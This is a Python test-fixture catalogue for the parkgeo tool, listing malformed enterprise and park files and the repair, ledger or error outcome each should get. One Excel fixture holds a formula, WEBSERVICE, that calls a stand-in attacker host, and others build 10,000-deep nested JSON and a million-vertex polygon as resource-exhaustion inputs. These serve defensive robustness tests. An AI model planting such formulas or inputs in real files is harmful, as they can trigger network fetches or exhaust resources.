"""The catalogue of bad inputs: each kind is written into a temporary directory on demand.

Every :class:`Case` names one kind of bad input a user really hands parkgeo, writes it (small
text fixtures inline; binary and huge ones generated: the million-vertex park, the
10,000-deep JSON) and states the outcome the user gets:

``repaired``
    The value is understood and converted, and the conversion is reported (a log line, the
    loaded table's ``attrs``, or the parks' ``attrs["repairs"]``).
``ledgered``
    The row goes to the reject ledger with a ``reason`` (the ``--rejects`` file); the command
    still succeeds (exit 0), and fails with exit 3 under ``--strict``.
``error``
    A :class:`parkgeo.ParkgeoError` subclass whose message names the file, the row or feature
    or column, and the fix; the command line prints one line and exits with 3.

``docs/bad-inputs.md`` is the table of these cases; ``tests/test_bad_inputs.py`` checks that
each one behaves as stated, through the library and through ``parkgeo density``.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np

HEADER = "enterprise_id,name,industry,lon,lat,year,tax,energy_tce\n"
# two rows inside park P1 (117.0..117.1, 39.0..39.1) and one inside P2 (117.2..117.3)
GOOD_ROWS = (
    "E1,甲公司,C2710,117.05,39.05,2015,10,5\n"
    "E2,乙公司,C3612,117.06,39.04,2015,20,6\n"
    "E3,丙公司,C2710,117.25,39.05,2015,30,7\n"
)
P1 = [[117.0, 39.0], [117.1, 39.0], [117.1, 39.1], [117.0, 39.1], [117.0, 39.0]]
P2 = [[117.2, 39.0], [117.3, 39.0], [117.3, 39.1], [117.2, 39.1], [117.2, 39.0]]


def polygon(ring: list[list[float]]) -> dict[str, Any]:
    return {"type": "Polygon", "coordinates": [ring]}


def feature_collection(features: list[tuple[Any, dict[str, Any] | None]]) -> dict[str, Any]:
    return {
        "type": "FeatureCollection",
        "features": [
            {"type": "Feature", "properties": props, "geometry": geom} for props, geom in features
        ],
    }


GOOD_PARKS = feature_collection(
    [
        ({"park_id": "P1", "name": "甲园"}, polygon(P1)),
        ({"park_id": "P2", "name": "乙园"}, polygon(P2)),
    ]
)


@dataclass(frozen=True)
class Inputs:
    """The files of one case and the options to read them with."""

    parks: Path
    enterprises: Path
    read: dict[str, Any] = field(default_factory=dict)  # read_enterprises/read_parks kwargs
    cli: tuple[str, ...] = ()  # extra command-line options


@dataclass(frozen=True)
class Case:
    """One kind of bad input and the outcome a user gets."""

    kind: str
    target: str  # "enterprises" or "parks": which file is bad
    outcome: str  # "repaired", "ledgered" or "error"
    detail: str  # the ledger reason, the exception class name, or what was repaired
    words: tuple[str, ...]  # must appear in the message / ledger message (case-insensitive)
    write: Callable[[Path], Inputs]
    # extra check on the library result (Loaded or parks GeoDataFrame)
    check: Callable[[Any], None] | None = None
    exit_code: int = 0  # of `parkgeo density` without --strict


# --------------------------------------------------------------------------------------------
# writers
# --------------------------------------------------------------------------------------------


def good_parks(root: Path) -> Path:
    path = root / "parks.geojson"
    path.write_text(json.dumps(GOOD_PARKS, ensure_ascii=False), encoding="utf-8")
    return path


def enterprises_text(text: str, *, encoding: str = "utf-8", name: str = "firms.csv", **read: Any):
    def write(root: Path) -> Inputs:
        path = root / name
        path.write_bytes(text.encode(encoding))
        return Inputs(good_parks(root), path, read)

    return write


def enterprises_bytes(data: bytes, *, name: str = "firms.csv"):
    def write(root: Path) -> Inputs:
        path = root / name
        path.write_bytes(data)
        return Inputs(good_parks(root), path)

    return write


def good_enterprises(root: Path) -> Path:
    path = root / "firms.csv"
    path.write_text(HEADER + GOOD_ROWS, encoding="utf-8")
    return path


def parks_doc(doc: Any, *, name: str = "parks.geojson", **read: Any):
    def write(root: Path) -> Inputs:
        path = root / name
        path.write_text(doc if isinstance(doc, str) else json.dumps(doc), encoding="utf-8")
        cli = tuple(_cli_of(read))
        return Inputs(path, good_enterprises(root), read, cli)

    return write


def _cli_of(read: dict[str, Any]) -> list[str]:
    out: list[str] = []
    if "coord_system" in read:
        out += ["--parks-coord-system", read["coord_system"]]
    if "crs" in read:
        out += ["--parks-crs", read["crs"]]
    return out


def parks_one(geometry: Any, park_id: str = "BAD") -> Callable[[Path], Inputs]:
    """The good parks plus one bad feature."""
    doc = json.loads(json.dumps(GOOD_PARKS))
    doc["features"].append(
        {"type": "Feature", "properties": {"park_id": park_id}, "geometry": geometry}
    )
    return parks_doc(doc)


def write_excel_merged_header(root: Path) -> Inputs:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["2015年天津市重点企业名录"])
    sheet.merge_cells("A1:F1")
    sheet.append(["统一社会信用代码", "企业名称", "坐标", None, "年份", "纳税总额(万元)"])
    sheet.append([None, None, "经度", "纬度", None, None])
    for col in "ABEF":
        sheet.merge_cells(f"{col}2:{col}3")
    sheet.merge_cells("C2:D2")
    sheet.append(["E1", "甲公司", 117.05, 39.05, 2015, 10])
    sheet.append(["E2", "乙公司", "117.06", "39.04", "2015年", "20"])
    path = root / "firms.xlsx"
    book.save(path)
    return Inputs(good_parks(root), path)


def write_excel_formulas(root: Path) -> Inputs:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["enterprise_id", "name", "lon", "lat", "year", "tax"])
    # openpyxl stores formulas without a cached value: reading values only, parkgeo must see
    # nothing (not run them); a formula that Excel would evaluate to a URL fetch stays inert
    sheet.append(["E1", '=WEBSERVICE("http://attacker.invalid/x")', 117.05, 39.05, 2015, "=1+2"])
    sheet.append(["E2", "乙公司", 117.06, 39.04, 2015, 20])
    path = root / "firms.xlsx"
    book.save(path)
    return Inputs(good_parks(root), path)


def write_xls(root: Path) -> Inputs:
    path = root / "firms.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
    return Inputs(good_parks(root), path)


def write_parks_without_crs(root: Path) -> Inputs:
    import geopandas as gpd
    from shapely.geometry import shape

    gdf = gpd.GeoDataFrame(
        {"park_id": ["P1", "P2"]}, geometry=[shape(polygon(P1)), shape(polygon(P2))]
    )
    path = root / "parks.parquet"
    gdf.to_parquet(path)
    return Inputs(path, good_enterprises(root))


def write_parks_gcj02(root: Path) -> Inputs:
    """The good parks shifted into GCJ-02 (as drawn on a Gaode map), read with coord_system."""
    from parkgeo.coords import wgs84_to_gcj02

    doc = json.loads(json.dumps(GOOD_PARKS))
    for feat in doc["features"]:
        ring = np.asarray(feat["geometry"]["coordinates"][0])
        lon, lat = wgs84_to_gcj02(ring[:, 0], ring[:, 1])
        feat["geometry"]["coordinates"][0] = np.c_[lon, lat].tolist()
    path = root / "parks_gcj02.geojson"
    path.write_text(json.dumps(doc), encoding="utf-8")
    return Inputs(
        path,
        good_enterprises(root),
        {"coord_system": "gcj02"},
        ("--parks-coord-system", "gcj02"),
    )


MILLION = 1_000_000


def write_million_vertex_park(root: Path) -> Inputs:
    """A circle of radius ~4 km around P1's centre drawn with 1,000,000 vertices (GeoParquet)."""
    import geopandas as gpd
    from shapely import Polygon

    t = np.linspace(0.0, 2.0 * np.pi, MILLION, endpoint=False)
    ring = np.c_[117.05 + 0.045 * np.cos(t), 39.05 + 0.035 * np.sin(t)]
    gdf = gpd.GeoDataFrame({"park_id": ["P1"]}, geometry=[Polygon(ring)], crs="EPSG:4326")
    path = root / "parks.parquet"
    gdf.to_parquet(path)
    return Inputs(path, good_enterprises(root))


def write_deep_json(root: Path) -> Inputs:
    """A GeoJSON whose one property is nested 10,000 arrays deep."""
    deep = "[" * 10_000 + "]" * 10_000
    geometry = json.dumps(polygon(P1))
    text = (
        '{"type":"FeatureCollection","features":[{"type":"Feature","properties":'
        f'{{"park_id":"P1","x":{deep}}},"geometry":{geometry}}}]}}'
    )
    path = root / "parks.geojson"
    path.write_text(text, encoding="utf-8")
    return Inputs(path, good_enterprises(root))


def write_deep_json_object(root: Path) -> Inputs:
    """A file that is nothing but 10,000 nested JSON objects."""
    path = root / "parks.geojson"
    path.write_text('{"a":' * 10_000 + "1" + "}" * 10_000, encoding="utf-8")
    return Inputs(path, good_enterprises(root))


def write_no_overlap(root: Path) -> Inputs:
    """Tianjin parks, Shanghai enterprises: a valid pair of files that share no location."""
    path = root / "firms.csv"
    path.write_text(
        HEADER + "S1,x,C2710,121.47,31.23,2015,1,1\nS2,x,C2710,121.48,31.22,2015,2,1\n",
        encoding="utf-8",
    )
    return Inputs(good_parks(root), path)


def write_mixed_encodings(root: Path) -> Inputs:
    data = (
        (HEADER + "E1,甲公司,C2710,117.05,39.05,2015,10,5\n").encode("utf-8")
        + "E2,乙公司,C3612,117.06,39.04,2015,20,6\n".encode("gbk")
        + ("E3,丙公司,C2710,117.25,39.05,2015,30,7\n" * 40).encode("utf-8")
    )
    return enterprises_bytes(data)(root)


def write_stray_byte(root: Path) -> Inputs:
    data = (HEADER + GOOD_ROWS).encode("utf-8")
    at = data.index("乙".encode())
    data = data[:at] + b"\xff" + data[at + 1 :]
    return enterprises_bytes(data)(root)


# --------------------------------------------------------------------------------------------
# checks on the library result
# --------------------------------------------------------------------------------------------


def kept_values(column: str, expected: list[Any]) -> Callable[[Any], None]:
    def check(loaded: Any) -> None:
        got = loaded.data[column].tolist()
        assert got == expected, f"{column}: {got} != {expected}"

    return check


def attr_is(name: str, value: Any) -> Callable[[Any], None]:
    def check(loaded: Any) -> None:
        assert loaded.data.attrs.get(name) == value, loaded.data.attrs

    return check


def conversions_reported(column: str, n: int) -> Callable[[Any], None]:
    """Cells that were not plain numbers but were understood are counted per column."""

    def check(loaded: Any) -> None:
        conversions = loaded.data.attrs.get("conversions", {})
        assert conversions.get(column, {}).get("n") == n, conversions

    return check


def both(*checks: Callable[[Any], None]) -> Callable[[Any], None]:
    def check(result: Any) -> None:
        for c in checks:
            c(result)

    return check


def repair_is(problem_word: str, action: str) -> Callable[[Any], None]:
    def check(parks: Any) -> None:
        repairs = parks.attrs["repairs"]
        assert len(repairs) == 1, repairs
        assert problem_word.lower() in repairs[0]["problem"].lower(), repairs
        assert repairs[0]["action"] == action, repairs

    return check


def parks_inside(lon: float, lat: float, park_id: str) -> Callable[[Any], None]:
    def check(parks: Any) -> None:
        import shapely

        hit = parks.loc[shapely.contains_xy(parks.geometry.values, lon, lat), "park_id"]
        assert hit.tolist() == [park_id]

    return check


def gcj_parks_back_in_wgs84(parks: Any) -> None:
    # converted back: the corner (117.0, 39.0) is within a metre of where it was drawn
    minx, miny, _, _ = parks.total_bounds
    assert abs(minx - 117.0) < 1e-5 and abs(miny - 39.0) < 1e-5, parks.total_bounds


def million_vertices_kept(parks: Any) -> None:
    import shapely

    assert shapely.get_num_coordinates(parks.geometry.values)[0] == MILLION + 1


# --------------------------------------------------------------------------------------------
# the catalogue
# --------------------------------------------------------------------------------------------

E, P = "enterprises", "parks"
ROW = "E9,x,C2710,117.05,39.05,2015,1,1\n"

CASES: tuple[Case, ...] = (
    # -- files that cannot be a table
    Case(
        "empty_file",
        E,
        "error",
        "InputFormatError",
        ("firms.csv", "empty"),
        enterprises_bytes(b""),
        exit_code=3,
    ),
    Case(
        "blank_lines_only",
        E,
        "error",
        "InputFormatError",
        ("firms.csv", "empty"),
        enterprises_bytes(b"  \n\n \n"),
        exit_code=3,
    ),
    Case(
        "header_only",
        E,
        "error",
        "InputFormatError",
        ("firms.csv", "0 read"),
        enterprises_text(HEADER),
        exit_code=3,
    ),
    Case(
        "binary_file_named_csv",
        E,
        "error",
        "InputFormatError",
        ("firms.csv", "NUL byte"),
        enterprises_bytes(bytes(range(256)) * 4),
        exit_code=3,
    ),
    Case(
        "old_xls_workbook",
        E,
        "error",
        "InputFormatError",
        ("firms.xls", ".xlsx"),
        write_xls,
        exit_code=3,
    ),
    Case(
        "unknown_delimiter",
        E,
        "error",
        "InputFormatError",
        ("firms.csv", "single column", "delimiter"),
        enterprises_text((HEADER + GOOD_ROWS).replace(",", "#")),
        exit_code=3,
    ),
    Case(
        "ragged_rows",
        E,
        "error",
        "InputFormatError",
        ("firms.csv", "malformed CSV", "Expected 8 columns"),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,117.05,39.05,2015,1,1,extra,9\n"),
        exit_code=3,
    ),
    Case(
        "missing_required_column",
        E,
        "error",
        "SchemaError",
        ("firms.csv", "lat", "not found", "--columns"),
        enterprises_text("enterprise_id,lon,year\nE1,117.05,2015\n"),
        exit_code=3,
    ),
    Case(
        "ambiguous_headers",
        E,
        "error",
        "SchemaError",
        ("firms.csv", "经度", "lon", "same column"),
        enterprises_text("enterprise_id,lon,经度,lat,year\nE1,117.05,117.05,39.05,2015\n"),
        exit_code=3,
    ),
    # -- delimiters and encodings
    Case(
        "semicolon_delimiter",
        E,
        "repaired",
        "delimiter detected",
        (),
        enterprises_text((HEADER + GOOD_ROWS).replace(",", ";")),
        check=both(attr_is("delimiter", ";"), kept_values("tax", [10.0, 20.0, 30.0])),
    ),
    Case(
        "tab_delimiter_tsv",
        E,
        "repaired",
        "delimiter detected",
        (),
        enterprises_text((HEADER + GOOD_ROWS).replace(",", "\t"), name="firms.tsv"),
        check=attr_is("delimiter", "\t"),
    ),
    Case(
        "gbk_encoding",
        E,
        "repaired",
        "encoding detected",
        (),
        enterprises_text(HEADER + GOOD_ROWS, encoding="gbk"),
        check=both(
            attr_is("encoding", "gb18030"), kept_values("name", ["甲公司", "乙公司", "丙公司"])
        ),
    ),
    Case(
        "utf16_with_bom",
        E,
        "repaired",
        "encoding detected",
        (),
        enterprises_text(HEADER + GOOD_ROWS, encoding="utf-16"),
        check=kept_values("name", ["甲公司", "乙公司", "丙公司"]),
    ),
    Case(
        "mixed_encodings",
        E,
        "error",
        "InputFormatError",
        ("firms.csv", "line 3", "cannot be decoded", "--encoding"),
        write_mixed_encodings,
        exit_code=3,
    ),
    Case(
        "undecodable_byte",
        E,
        "error",
        "InputFormatError",
        ("firms.csv", "line 3", "byte offset", "utf-8"),
        write_stray_byte,
        exit_code=3,
    ),
    Case(
        "excel_merged_header_rows",
        E,
        "repaired",
        "header found under a title and merged rows",
        (),
        write_excel_merged_header,
        check=both(
            kept_values("lon", [117.05, 117.06]),
            kept_values("year", [2015, 2015]),
            kept_values("tax", [10.0, 20.0]),
            attr_is("header_row", 1),
        ),
    ),
    # -- enterprise ids
    Case(
        "missing_enterprise_id",
        E,
        "ledgered",
        "missing_enterprise_id",
        ("enterprise id",),
        enterprises_text(HEADER + GOOD_ROWS + " ,x,C2710,117.05,39.05,2015,1,1\n"),
    ),
    Case(
        "duplicate_enterprise_year",
        E,
        "ledgered",
        "duplicate_enterprise_year",
        ("E1", "source row 0", "kept"),
        enterprises_text(HEADER + GOOD_ROWS + "E1,甲公司,C2710,117.05,39.05,2015,99,5\n"),
    ),
    # -- coordinates
    Case(
        "fullwidth_digits_and_chinese_punctuation",
        E,
        "repaired",
        "coordinates parsed",
        (),
        enterprises_text(
            HEADER + "E1,x,C2710,１１７．０５,３９．０５,2015,1,1\n"
            'E2,x,C2710,117．06,"39，04",2015,1,1\n'
        ),
        check=both(
            kept_values("lon", [117.05, 117.06]),
            kept_values("lat", [39.05, 39.04]),
            conversions_reported("lon", 2),
        ),
    ),
    Case(
        "lonlat_swapped",
        E,
        "ledgered",
        "lonlat_swapped",
        ("swapped", "lat=117.05"),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,39.05,117.05,2015,1,1\n"),
    ),
    Case(
        "zero_coordinates",
        E,
        "ledgered",
        "zero_coordinate",
        ("both 0", "geocode"),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,0,0,2015,1,1\n"),
    ),
    Case(
        "nan_coordinate",
        E,
        "ledgered",
        "missing_coordinate",
        ("lon=NaN",),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,NaN,39.05,2015,1,1\n"),
    ),
    Case(
        "infinite_coordinate",
        E,
        "ledgered",
        "coordinate_out_of_range",
        ("-Infinity",),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,117.05,-Infinity,2015,1,1\n"),
    ),
    Case(
        "projected_metres_as_degrees",
        E,
        "ledgered",
        "projected_coordinates",
        ("projected metres", "EPSG:4326"),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,39512345.6,4330000.1,2015,1,1\n"),
    ),
    Case(
        "text_coordinate",
        E,
        "ledgered",
        "non_numeric_coordinate",
        ("not a number",),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,天津市,39.05,2015,1,1\n"),
    ),
    Case(
        "gcj02_points_outside_china",
        E,
        "repaired",
        "left unconverted, reported",
        (),
        enterprises_text(
            HEADER + GOOD_ROWS + "F1,巴黎,C2710,2.35,48.85,2015,1,1\n", coord_system="gcj02"
        ),
        check=both(
            attr_is("outside_china", 1),
            lambda loaded: _assert_unconverted(loaded, "F1", 2.35, 48.85),
        ),
    ),
    # -- measures
    Case(
        "thousands_separators",
        E,
        "repaired",
        "number parsed",
        (),
        enterprises_text(HEADER + 'E1,x,C2710,117.05,39.05,2015,"1,234.5",5\n'),
        check=both(kept_values("tax", [1234.5]), conversions_reported("tax", 1)),
    ),
    Case(
        "units_in_cells",
        E,
        "repaired",
        "scaled to 10,000 CNY / tce",
        (),
        enterprises_text(
            HEADER + "E1,x,C2710,117.05,39.05,2015,123万元,5吨标准煤\n"
            "E2,x,C2710,117.05,39.05,2015,1.2亿元,2万吨标准煤\n"
            "E3,x,C2710,117.05,39.05,2015,500元,1\n"
        ),
        check=both(
            kept_values("tax", [123.0, 12000.0, 0.05]),
            kept_values("energy_tce", [5.0, 20000.0, 1.0]),
            conversions_reported("tax", 3),
        ),
    ),
    Case(
        "negative_energy",
        E,
        "ledgered",
        "negative_measure",
        ("energy_tce", "negative"),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,117.05,39.05,2015,1,-5\n"),
    ),
    Case(
        "negative_tax_kept",
        E,
        "repaired",
        "kept (refunds make tax negative)",
        (),
        enterprises_text(HEADER + "E1,x,C2710,117.05,39.05,2015,-12.5,1\n"),
        check=kept_values("tax", [-12.5]),
    ),
    Case(
        "text_measure",
        E,
        "ledgered",
        "non_numeric_measure",
        ("tax", "not a number"),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,117.05,39.05,2015,12.5%,1\n"),
    ),
    Case(
        "infinite_measure",
        E,
        "ledgered",
        "non_finite_measure",
        ("tax", "infinite"),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,117.05,39.05,2015,1e999,1\n"),
    ),
    Case(
        "missing_measure_tokens",
        E,
        "repaired",
        "read as missing (NaN), never zero",
        (),
        enterprises_text(
            HEADER + "E1,x,C2710,117.05,39.05,2015,-,无\nE2,x,C2710,117.05,39.05,2015,NA,\n"
        ),
        check=lambda loaded: _assert_all_nan(loaded, ("tax", "energy_tce")),
    ),
    # -- years
    Case(
        "year_with_suffix",
        E,
        "repaired",
        "year parsed",
        (),
        enterprises_text(
            HEADER + "E1,x,C2710,117.05,39.05,2015年,1,1\nE2,x,C2710,117.05,39.05,2015年度,1,1\n"
        ),
        check=both(kept_values("year", [2015, 2015]), conversions_reported("year", 2)),
    ),
    Case(
        "year_out_of_range",
        E,
        "ledgered",
        "year_out_of_range",
        ("1850", "years="),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,117.05,39.05,1850,1,1\n"),
    ),
    Case(
        "year_not_whole",
        E,
        "ledgered",
        "invalid_year",
        ("2015.5", "whole year"),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C2710,117.05,39.05,2015.5,1,1\n"),
    ),
    # -- industry codes
    Case(
        "industry_code_2011_edition",
        E,
        "ledgered",
        "unknown_industry_code",
        ("3610", "GB/T 4754-2011", "recode"),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,C3610,117.05,39.05,2015,1,1\n"),
    ),
    Case(
        "industry_code_unknown",
        E,
        "ledgered",
        "unknown_industry_code",
        ("Z99", "not in GB/T 4754-2017"),
        enterprises_text(HEADER + GOOD_ROWS + "E4,x,Z99,117.05,39.05,2015,1,1\n"),
    ),
    Case(
        "excel_formula_cells",
        E,
        "repaired",
        "formulas read as values, never run",
        (),
        write_excel_formulas,
        check=lambda loaded: _assert_formulas_inert(loaded),
    ),
    # -- parks
    Case(
        "parks_without_crs",
        P,
        "error",
        "CRSError",
        ("parks.parquet", "no CRS", "--parks-crs"),
        write_parks_without_crs,
        exit_code=3,
    ),
    Case(
        "parks_projected_metres_labelled_degrees",
        P,
        "error",
        "CRSError",
        ("parks.geojson", "projected metres", "EPSG:4326"),
        parks_doc(
            feature_collection(
                [
                    (
                        {"park_id": "P1"},
                        polygon(
                            [
                                [500000, 4300000],
                                [501000, 4300000],
                                [501000, 4301000],
                                [500000, 4300000],
                            ]
                        ),
                    )
                ]
            )
        ),
        exit_code=3,
    ),
    Case(
        "parks_in_gcj02",
        P,
        "repaired",
        "converted to WGS-84 when coord_system='gcj02'",
        (),
        write_parks_gcj02,
        check=gcj_parks_back_in_wgs84,
    ),
    Case(
        "duplicate_park_ids",
        P,
        "error",
        "GeometryError",
        ("parks.geojson", "'P1'", "features 0, 2", "unique"),
        parks_one(polygon(P1), "P1"),
        exit_code=3,
    ),
    Case(
        "missing_park_id_column",
        P,
        "error",
        "SchemaError",
        ("parks.geojson", "park_id", "not found", "--columns"),
        parks_doc(feature_collection([({"编码": "P1"}, polygon(P1))])),
        exit_code=3,
    ),
    Case(
        "self_intersecting_park",
        P,
        "repaired",
        "make_valid, reported",
        ("self-intersection",),
        parks_one(
            {
                "type": "Polygon",
                "coordinates": [
                    [[117.4, 39.0], [117.5, 39.1], [117.5, 39.0], [117.4, 39.1], [117.4, 39.0]]
                ],
            }
        ),
        check=both(
            repair_is("self-intersection", "make_valid"), parks_inside(117.49, 39.05, "BAD")
        ),
    ),
    Case(
        "null_geometry_park",
        P,
        "error",
        "GeometryError",
        ("parks.geojson", "feature 2", "'BAD'", "empty geometry"),
        parks_one(None),
        exit_code=3,
    ),
    Case(
        "empty_polygon_park",
        P,
        "error",
        "GeometryError",
        ("parks.geojson", "feature 2", "'BAD'", "empty geometry"),
        parks_one({"type": "Polygon", "coordinates": []}),
        exit_code=3,
    ),
    Case(
        "zero_area_park",
        P,
        "error",
        "GeometryError",
        ("parks.geojson", "feature 2", "'BAD'", "no area"),
        parks_one(
            {
                "type": "Polygon",
                "coordinates": [[[117.4, 39.0], [117.5, 39.1], [117.6, 39.2], [117.4, 39.0]]],
            }
        ),
        exit_code=3,
    ),
    Case(
        "line_park",
        P,
        "error",
        "GeometryError",
        ("parks.geojson", "feature 2", "LineString", "polygon"),
        parks_one({"type": "LineString", "coordinates": [[117.4, 39.0], [117.5, 39.1]]}),
        exit_code=3,
    ),
    Case(
        "point_park",
        P,
        "error",
        "GeometryError",
        ("parks.geojson", "feature 2", "Point", "polygon"),
        parks_one({"type": "Point", "coordinates": [117.4, 39.0]}),
        exit_code=3,
    ),
    Case(
        "geometry_collection_park",
        P,
        "repaired",
        "polygonal parts kept, reported",
        (),
        parks_one(
            {
                "type": "GeometryCollection",
                "geometries": [
                    polygon(
                        [[117.4, 39.0], [117.5, 39.0], [117.5, 39.1], [117.4, 39.1], [117.4, 39.0]]
                    ),
                    {"type": "Point", "coordinates": [117.0, 38.0]},
                ],
            }
        ),
        check=both(
            repair_is("GeometryCollection", "kept polygonal parts"),
            parks_inside(117.45, 39.05, "BAD"),
        ),
    ),
    Case(
        "geometry_collection_without_polygon",
        P,
        "error",
        "GeometryError",
        ("parks.geojson", "feature 2", "GeometryCollection without polygons"),
        parks_one(
            {
                "type": "GeometryCollection",
                "geometries": [{"type": "Point", "coordinates": [117.0, 38.0]}],
            }
        ),
        exit_code=3,
    ),
    Case(
        "empty_feature_collection",
        P,
        "error",
        "InputFormatError",
        ("parks.geojson", "no features"),
        parks_doc(feature_collection([])),
        exit_code=3,
    ),
    Case(
        "truncated_geojson",
        P,
        "error",
        "InputFormatError",
        ("parks.geojson", "GeoJSON"),
        parks_doc('{"type":"FeatureCollection","features":[{"type":"Feat'),
        exit_code=3,
    ),
    Case(
        "deeply_nested_json_10000",
        P,
        "error",
        "InputFormatError",
        ("parks.geojson", "nested"),
        write_deep_json,
        exit_code=3,
    ),
    Case(
        "deeply_nested_json_objects_10000",
        P,
        "error",
        "InputFormatError",
        ("parks.geojson", "vector"),
        write_deep_json_object,
        exit_code=3,
    ),
    Case(
        "million_vertex_park",
        P,
        "repaired",
        "read and joined (bounded time)",
        (),
        write_million_vertex_park,
        check=million_vertices_kept,
    ),
    # -- the two files together
    Case(
        "parks_and_enterprises_do_not_overlap",
        E,
        "repaired",
        "0 matched: loud warning",
        (),
        write_no_overlap,
        check=kept_values("enterprise_id", ["S1", "S2"]),
    ),
)


# --------------------------------------------------------------------------------------------
# issue 11 (trust on real files): park geometry that crashed or misled the join. Kept in a
# block of their own; tests/test_trust.py runs them through join, map, gaps and density too.
# --------------------------------------------------------------------------------------------


def write_park_vertex_not_finite(root: Path) -> Inputs:
    import geopandas as gpd
    from shapely import Polygon
    from shapely.geometry import shape

    with np.errstate(invalid="ignore"):  # shapely warns about the NaN we mean to write
        bad = Polygon([(117.4, 39.0), (117.5, 39.0), (117.5, float("nan")), (117.4, 39.1)])
    gdf = gpd.GeoDataFrame(
        {"park_id": ["P1", "P2", "BAD"]},
        geometry=[shape(polygon(P1)), shape(polygon(P2)), bad],
        crs="EPSG:4326",
    )
    path = root / "parks.parquet"
    gdf.to_parquet(path)
    return Inputs(path, good_enterprises(root))


def no_park_contains(lon: float, lat: float) -> Callable[[Any], None]:
    def check(parks: Any) -> None:
        import shapely

        assert not shapely.contains_xy(parks.geometry.values, lon, lat).any()

    return check


ANTIMERIDIAN_RING = [[179.9, 10.0], [-179.9, 10.0], [-179.9, 11.0], [179.9, 11.0], [179.9, 10.0]]

TRUST_CASES: tuple[Case, ...] = (
    Case(
        "multipolygon_with_empty_part",
        P,
        "repaired",
        "empty part dropped, reported",
        ("empty part",),
        parks_one(
            {
                "type": "MultiPolygon",
                "coordinates": [
                    [[[117.4, 39.0], [117.5, 39.0], [117.5, 39.1], [117.4, 39.1], [117.4, 39.0]]],
                    [],
                ],
            }
        ),
        check=both(
            repair_is("empty part", "dropped the empty part(s)"), parks_inside(117.45, 39.05, "BAD")
        ),
    ),
    Case(
        "unclosed_three_point_ring",
        P,
        "repaired",
        "ring closed, reported",
        ("unclosed ring",),
        parks_one(
            {"type": "Polygon", "coordinates": [[[117.4, 39.0], [117.5, 39.0], [117.5, 39.1]]]}
        ),
        check=both(
            repair_is("unclosed ring", "closed it by repeating its first vertex"),
            parks_inside(117.49, 39.01, "BAD"),
        ),
    ),
    Case(
        "park_crossing_antimeridian",
        P,
        "repaired",
        "split at 180 degrees, reported",
        ("antimeridian",),
        parks_one(polygon(ANTIMERIDIAN_RING)),
        check=both(
            repair_is("antimeridian", "split it at longitude 180 into one part on each side"),
            parks_inside(179.95, 10.5, "BAD"),
            parks_inside(-179.95, 10.5, "BAD"),
            no_park_contains(10.0, 10.5),
        ),
    ),
    Case(
        "park_vertex_not_finite",
        P,
        "error",
        "GeometryError",
        ("BAD", "NaN or infinite"),
        write_park_vertex_not_finite,
        exit_code=3,
    ),
)
CASES = CASES + TRUST_CASES


def _assert_unconverted(loaded: Any, enterprise_id: str, lon: float, lat: float) -> None:
    row = loaded.data.set_index("enterprise_id").loc[enterprise_id]
    assert (row["lon"], row["lat"]) == (lon, lat)


def _assert_all_nan(loaded: Any, columns: tuple[str, ...]) -> None:
    for col in columns:
        assert loaded.data[col].isna().all(), loaded.data[col].tolist()


def _assert_formulas_inert(loaded: Any) -> None:
    data = loaded.data.set_index("enterprise_id")
    # no cached value: the formula is not evaluated, so the cells are missing
    assert np.isnan(data.loc["E1", "tax"])
    assert data.loc["E2", "tax"] == 20.0
    name = data.loc["E1", "name"]
    assert name is None or name != name or not str(name).startswith("="), name


from _bad_inputs_readers import READER_CASES  # noqa: E402  (it builds on the helpers above)

CASES = (*CASES, *READER_CASES)
CASE_IDS = [case.kind for case in CASES]
